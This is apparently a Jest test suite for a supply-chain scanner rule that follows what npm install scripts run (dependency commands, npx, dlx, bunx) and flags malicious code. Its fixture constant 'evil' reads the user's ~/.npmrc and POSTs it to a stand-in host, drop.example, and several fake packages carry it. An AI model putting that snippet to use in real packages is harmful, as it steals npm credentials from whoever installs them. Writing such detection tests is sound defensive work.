import { describe, expect, it } from '@jest/globals';
import type { ContentsEvidence } from '../../src/model/contents.ts';
import type { Gathered } from '../../src/model/evidence.ts';
import { added, at } from '../../src/rules/example.ts';
import installCodeRisk from '../../src/rules/install-code-risk.ts';
import { contentsFrom, type Packed } from '../helpers/a-tarball-registry.ts';

const now = at('2025-01-01T00:00:00Z');
const evil =
  'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");\nfetch("https://drop.example/x", { method: "POST", body: t });';

const tool = (files: Readonly<Record<string, string>>, more: Partial<Packed> = {}): Packed => ({
  manifest: { name: 'setup-kit', version: '1.2.3', bin: { 'Some-Tool': './bin/x.js' } },
  files,
  ...more,
});
const caller = (script: string): Packed => ({
  manifest: { name: 'caller', version: '1.0.0', scripts: { postinstall: script }, dependencies: { other: '^1.0.0', 'setup-kit': '^1.0.0' } },
  files: { 'index.js': 'module.exports = 1' },
});

const other = { manifest: { name: 'other', version: '1.0.0', bin: { different: 'x.js' } }, files: {} };

async function contentsOf(packages: readonly Packed[], options: { tree?: boolean; wellKnown?: string } = {}) {
  const change = added('caller', '1.0.0');
  const { contents } = await contentsFrom({
    packages: [other, ...packages],
    change,
    ...(options.wellKnown !== undefined && { wellKnown: options.wellKnown }),
    ...(options.tree && { tree: [change.after, added('setup-kit', '1.2.3').after] }),
  });
  return contents;
}

function risks(contents: Gathered<ContentsEvidence>) {
  if (!contents.ok) throw new Error(contents.reason);
  return installCodeRisk.check(added('caller', '1.0.0'), { contents: contents.value }, { now, options: {} });
}

describe('a command of a dependency that the install calls', () => {
  it.each([{ tree: true }, { tree: false }])('is read and judged as run by installing (%p)', async (options) => {
    const [found] = risks(
      await contentsOf([caller('some-tool setup'), tool({ 'bin/x.js': 'require("../lib/steal")', 'lib/steal.js': evil })], options),
    );
    expect(found).toMatchObject({ signal: 'install-code-risk:convicts', confidence: 'high' });
    expect(String(found?.facts['does'])).toContain('setup-kit@1.2.3/lib/steal.js:');
    expect(found?.facts['calls']).toEqual(['some-tool: setup-kit@1.2.3/bin/x.js']);
  });

  it('is followed through npx, and nothing else of that package counts', async () => {
    const contents = await contentsOf([
      caller('npx some-tool@1 setup'),
      tool({ 'bin/x.js': 'console.log("ready")', 'index.js': evil, 'install.js': evil }),
    ]);
    expect(contents).toMatchObject({ ok: true, value: { calls: [{ command: 'some-tool', from: 'setup-kit@1.2.3' }] } });
    expect(risks(contents)).toEqual([]);
  });

  it('is warned of where it hides behind more commands than are followed', async () => {
    const idle = ['one-thing', 'two-thing', 'three-thing', 'four-thing', 'five-thing', 'six-thing'];
    const offered: Packed = {
      manifest: { name: 'other', version: '1.0.0', bin: Object.fromEntries(idle.map((name) => [name, 'x.js'])) },
      files: { 'x.js': 'console.log(1)' },
    };
    const contents = await contentsOf([caller([...idle, 'some-tool'].join(' && ')), offered, tool({ 'bin/x.js': evil })]);
    const [found] = risks(contents);
    expect(found).toMatchObject({ signal: 'install-code-risk:nobodys-command', message: expect.stringContaining('some-tool could not be told') });
    expect(found?.facts['calls']).toContain('some-tool: not followed: its install calls more than 6 commands');
  });

  it('is not taken for clean when its bytes cannot be had, and the caller is judged by its own all the same', async () => {
    const contents = await contentsOf([caller('some-tool setup'), tool({}, { missing: true })]);
    const reason = 'the command some-tool of setup-kit@1.2.3, which its install calls, could not be read: the tarball cannot be had';
    expect(contents).toMatchObject({
      ok: true,
      lacking: { why: 'failed', reason },
      value: { calls: [{ command: 'some-tool', from: 'setup-kit@1.2.3', notRead: 'the tarball cannot be had', failed: true }] },
    });
    expect(risks(contents)).toEqual([]);
    const bad = caller('node steal.js && some-tool setup');
    const judged = await contentsOf([{ ...bad, files: { ...bad.files, 'steal.js': evil } }, tool({}, { missing: true })]);
    expect(judged).toMatchObject({ ok: true, lacking: { why: 'failed' } });
    expect(risks(judged)).toMatchObject([{ signal: 'install-code-risk:convicts' }]);
  });

  it('is looked for no further than the one that cannot be had: the others are judged', async () => {
    const evilTool: Packed = { manifest: { name: 'other', version: '1.0.0', bin: { different: 'x.js' } }, files: { 'x.js': evil } };
    const contents = await contentsOf([caller('some-tool setup && different'), evilTool, tool({}, { missing: true })]);
    expect(contents).toMatchObject({ ok: true, lacking: { why: 'failed' } });
    const [found] = risks(contents);
    expect(found?.signal).toBe('install-code-risk:convicts');
    expect(String(found?.facts['does'])).toContain('other@1.0.0/x.js');
  });

  it('is named and not read when the tool is well known and has stood', async () => {
    const contents = await contentsOf([caller('some-tool setup'), tool({}, { missing: true })], { wellKnown: 'setup-kit' });
    expect(contents).toMatchObject({
      ok: true,
      value: { calls: [{ command: 'some-tool', from: 'setup-kit@1.2.3', notRead: expect.stringMatching(/well known/) }] },
    });
  });

  it('that no dependency offers is said plainly; what the machine has is not asked about', async () => {
    const [found] = risks(await contentsOf([caller('make all && fetch-parts'), tool({ 'bin/x.js': '' })]));
    expect(found).toMatchObject({ confidence: 'low', message: 'installing it calls fetch-parts, which no package it depends on offers' });
    expect(found?.facts['calls']).toEqual(['fetch-parts: no package it depends on offers it, and it is no known tool of the system']);
  });
});

describe('a package that the install fetches past its dependencies', () => {
  const fetched = (files: Readonly<Record<string, string>>, more: object = {}): Packed => ({
    manifest: { name: 'far-kit', version: '3.0.0', bin: { 'far-kit': './cli.js' }, ...more },
    files,
  });

  it.each([
    'npx -y far-kit',
    'npx far-kit@3 --now',
    'npx --package=far-kit far-kit',
    "npx -p far-kit -c 'far-kit a'",
    'npm exec --yes -- far-kit',
    'npm --silent exec far-kit',
    'pnpm dlx far-kit',
    'yarn dlx -p far-kit far-kit',
    'bunx far-kit',
  ])('is read as what runs (%s)', async (script) => {
    const [found] = risks(await contentsOf([caller(script), fetched({ 'cli.js': evil })]));
    expect(found).toMatchObject({ signal: 'install-code-risk:convicts' });
    expect(String(found?.facts['does'])).toContain('far-kit@3.0.0/cli.js:');
    expect(found?.facts['calls']).toEqual(['far-kit: fetched from the registry, today far-kit@3.0.0/cli.js']);
  });

  it.each(['npm install far-kit', 'npm i --no-save far-kit@^3', 'npx -y far-kit'])('with the scripts its own install runs (%s)', async (script) => {
    const [found] = risks(await contentsOf([caller(script), fetched({ 'cli.js': '', 'go.js': evil }, { scripts: { preinstall: 'node go.js' } })]));
    expect(found).toMatchObject({ signal: 'install-code-risk:convicts' });
    expect(String(found?.facts['does'])).toContain('far-kit@3.0.0/go.js:');
  });

  it('stays what nobody vouches for where it is harmless, unknown, or well known', async () => {
    const [found] = risks(await contentsOf([caller('npx -y far-kit'), fetched({ 'cli.js': 'console.log(1)' })]));
    expect(found).toMatchObject({ signal: 'install-code-risk:nobodys-command', confidence: 'low' });
    const [unknown] = risks(await contentsOf([caller('npx -y far-kit')]));
    expect(unknown).toMatchObject({ signal: 'install-code-risk:nobodys-command', confidence: 'low' });
    const [known] = risks(await contentsOf([caller('npx -y far-kit'), fetched({ 'cli.js': evil })], { wellKnown: 'far-kit' }));
    expect(known).toMatchObject({ signal: 'install-code-risk:nobodys-command', confidence: 'low' });
  });

  it('is not asked for where a dependency offers the command, nor from elsewhere than a registry', async () => {
    const contents = await contentsOf([
      caller('npx some-tool && npx github:a/b && npx ./x && npx $TOOL'),
      tool({ 'bin/x.js': '' }),
      fetched({ 'cli.js': evil }),
    ]);
    expect(risks(contents).every(({ signal }) => signal === 'install-code-risk:nobodys-command')).toBe(true);
  });

  it('is said where it cannot be read', async () => {
    const contents = await contentsOf([caller('npx -y far-kit'), { ...fetched({}), missing: true }]);
    expect(contents).toMatchObject({
      ok: true,
      lacking: { why: 'failed', reason: 'far-kit, which its install fetches, could not be read: the tarball cannot be had' },
    });
  });
});
